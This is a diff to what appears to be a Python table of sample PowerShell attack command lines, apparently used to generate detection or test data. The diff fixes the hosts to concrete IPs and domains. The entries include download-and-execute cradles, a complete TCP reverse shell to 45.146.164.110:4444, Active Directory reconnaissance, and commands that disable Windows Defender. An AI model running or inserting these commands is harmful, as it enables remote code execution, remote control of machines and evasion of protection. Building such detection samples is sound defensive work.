@@ -64,9 +64,10 @@ ENCODED_SCRIPTS = {
     ],
     # what loaders, intruders and testers run (malicious or dual use)
     "loader_download": [
-        "IEX (New-Object Net.WebClient).DownloadString('http://{pick:185.172.128.{n:10-250}|45.155.205.{n:10-250}|update-check-cdn.top}/{pick:a|p|s}.ps1')",
-        "$w=New-Object System.Net.WebClient;$w.DownloadFile('http://{pick:193.233.20.{n:10-250}|files-cdn-host.xyz}/{hex:6}.exe',\"$env:TEMP\\{hex:6}.exe\");Start-Process \"$env:TEMP\\{hex:6}.exe\"",
-        "Invoke-WebRequest -Uri 'https://{pick:paste.ee|transfer.sh|raw.githubusercontent.com}/{hex:8}/payload.ps1' -UseBasicParsing | Invoke-Expression",
+        "IEX (New-Object Net.WebClient).DownloadString('http://185.172.128.69/a.ps1')",
+        "$w=New-Object System.Net.WebClient;$w.DownloadFile('http://193.233.20.12/upd.exe',\"$env:TEMP\\upd.exe\");Start-Process \"$env:TEMP\\upd.exe\"",
+        "Invoke-WebRequest -Uri 'https://paste.ee/r/Xq2c9' -UseBasicParsing | Invoke-Expression",
+        "IEX (New-Object Net.WebClient).DownloadString('http://update-check-cdn.top/s.ps1')",
     ],
     "loader_recon": [
         "whoami /all; net user /domain; net group 'Domain Admins' /domain; Get-ADComputer -Filter * | Select-Object Name; systeminfo",
@@ -74,7 +75,7 @@ ENCODED_SCRIPTS = {
         "Get-ADGroupMember -Identity 'Domain Admins'; nltest /domain_trusts; net group 'Enterprise Admins' /domain; whoami",
     ],
     "revshell": [
-        "$client = New-Object System.Net.Sockets.TCPClient('{pick:45.146.164.{n:10-250}|91.92.240.{n:10-250}}',{pick:443|4444|8443});$stream = $client.GetStream();[byte[]]$bytes = 0..65535|%{{0}};while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){{;$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);$sendback = (iex $data 2>&1 | Out-String );$sendbyte = ([text.encoding]::ASCII).GetBytes($sendback);$stream.Write($sendbyte,0,$sendbyte.Length);$stream.Flush()}};$client.Close()",
+        "$client = New-Object System.Net.Sockets.TCPClient('45.146.164.110',4444);$stream = $client.GetStream();[byte[]]$bytes = 0..65535|%{{0}};while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){{;$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);$sendback = (iex $data 2>&1 | Out-String );$sendbyte = ([text.encoding]::ASCII).GetBytes($sendback);$stream.Write($sendbyte,0,$sendbyte.Length);$stream.Flush()}};$client.Close()",
     ],
     "defender_off": [
         "Set-MpPreference -DisableRealtimeMonitoring $true; Add-MpPreference -ExclusionPath $env:APPDATA; Add-MpPreference -ExclusionProcess 'rundll32.exe'",
